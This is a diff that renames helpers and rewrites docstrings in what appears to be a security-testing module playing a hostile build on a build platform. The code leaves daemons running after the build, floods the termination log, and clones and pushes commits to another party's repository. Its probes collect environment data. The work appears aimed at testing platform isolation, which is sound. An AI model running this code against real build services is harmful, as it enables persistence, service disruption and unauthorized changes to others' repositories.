@@ -1,4 +1,4 @@
-"""What the attacker's build does: the same probes, and daemons that stay behind while the platform takes the image."""
+"""Actions of the attacker's build: the same probes, and daemons that stay while the platform takes the image."""
 
 import json
 import os
@@ -10,16 +10,15 @@ import time
 from . import facts, holding, residence, resources, swapping
 
 RESULTS = "build-results.json"
-"""In the folder that becomes the image: the application gives it to whoever asks. An installer hides the output of a build that ends
-well."""
+"""In the folder that becomes the image, so that the application can serve it. An installer hides the output of a successful build."""
 
 
-def say(line):
+def log_line(line):
     print(line, flush=True)
 
 
-def tell(word, value):
-    """Adds to the results; printed too, for the log of a build that fails."""
+def add_result(word, value):
+    """Add to the results. Also printed, for the log of a build that fails."""
     known = {}
     if os.path.exists(RESULTS):
         with open(RESULTS) as file:
@@ -27,39 +26,39 @@ def tell(word, value):
     known.setdefault(word, []).append(value)
     with open(RESULTS, "w") as file:
         json.dump(known, file)
-    say(f"{word} {json.dumps(value)[:1000]}")
+    log_line(f"{word} {json.dumps(value)[:1000]}")
 
 
-def tell_facts(targets):
-    tell("facts", facts.collect(targets))
+def add_facts(targets):
+    add_result("facts", facts.collect(targets))
 
 
 def probe(targets, name, arguments):
-    tell(name, resources.PROBES[name](**arguments))
+    add_result(name, resources.PROBES[name](**arguments))
 
 
 def last_words(targets, mib):
-    """The file for the builder's termination message, filled by its build."""
+    """Fill the file for the builder's termination message."""
     with open("/dev/termination-log", "w") as file:
         for _ in range(mib):
             file.write("[" * (1 << 20))
 
 
 def look(targets, word, seconds):
-    tell("look", holding.environments(word, seconds))
+    add_result("look", holding.environments(word, seconds))
 
 
 def sleep(targets, seconds):
-    say("SLEEPING")
+    log_line("SLEEPING")
     time.sleep(seconds)
 
 
 def attack(targets, seconds, without=()):
-    residence.attack(targets, seconds, say, without=without)
+    residence.attack(targets, seconds, log_line, without=without)
 
 
 def leave_daemon(targets, name, arguments):
-    """A process with neither parent, session nor streams of the build: it is there when the build has ended."""
+    """Start a process without the build's parent, session and streams, which survives the build."""
     if os.fork():
         return
     os.setsid()
@@ -77,7 +76,7 @@ def leave_daemon(targets, name, arguments):
 
 
 def push(targets, url, text):
-    """Clones a repository that is not its own and pushes a commit to it: what git says."""
+    """Clone a repository of somebody else and push a commit to it. The result is git's exit codes."""
     place = os.path.join(os.environ.get("TMPDIR", "/tmp"), "stolen")
     author = ["-c", "user.name=a", "-c", "user.email=a@example.org"]
     steps = (
@@ -89,12 +88,12 @@ def push(targets, url, text):
     for words in steps:
         done = subprocess.run(words, capture_output=True, text=True, timeout=30, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
         codes.append(done.returncode)
-        say(f"GIT {words[-1]} {done.returncode} {done.stderr.strip()[:200]}")
-    tell("push", codes)
+        log_line(f"GIT {words[-1]} {done.returncode} {done.stderr.strip()[:200]}")
+    add_result("push", codes)
 
 
 ACTIONS = {
-    "facts": tell_facts,
+    "facts": add_facts,
     "probe": probe,
     "sleep": sleep,
     "look": look,
